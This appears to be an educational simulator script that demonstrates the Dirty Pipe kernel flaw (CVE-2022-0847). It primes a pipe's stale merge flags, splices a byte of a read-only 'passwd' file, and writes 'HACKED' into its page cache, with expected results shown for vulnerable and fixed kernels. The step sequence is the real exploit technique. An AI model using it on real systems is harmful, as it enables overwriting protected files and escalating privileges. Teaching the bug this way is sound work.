-- SPDX-License-Identifier: MIT
local bug = kernel{version = "5.15.24", features = "dirty-pipe"}
title("Dirty Pipe: a write to a pipe lands in a file (CVE-2022-0847)")
watch("The flags of slot 0: write sets CAN_MERGE, draining the ring leaves it, and splice puts a page of the file over it.")
question("The file was opened for reading only. Whose check should have stopped the write, and why was nobody asked?")

local p, f, d = pipe{nonblock = true}, file{size = 8192, name = "passwd"}, buffer("4K")
local b = buffer("64K")

-- Each of the 16 slots has held bytes of write() once. Released, a slot keeps its flags: only its ops are cleared.
expect(write(p.w, b), 65536)
expect(read(p.r, 65536), 65536)
expect(ring(p), "head=16 tail=16")

-- One byte of the file: a reference to the page in the page cache, and nobody sets the flags.
expect(splice(f, 0, p.w, nil, 1), 1)
expect(ring(p), "head=17 tail=16 | 0:passwd[0]@0+1" .. (bug and " M" or ""))

-- Six bytes more. Where the slot says CAN_MERGE they go behind its one byte, into the page of the file.
expect(write(p.w, "HACKED"), 6)
expect(ring(p), bug and "head=17 tail=16 | 0:passwd[0]@0+7 M" or "head=18 tail=16 | 0:passwd[0]@0+1 | 1:k1@0+6 M")

local q = pipe()
expect(splice(f, 0, q.w, nil, 8), 8)
expect(read(q.r, d, 8), 8)
expect(bytes(d, 0, 8), bug and "AHACKEDH" or "ABCDEFGH")
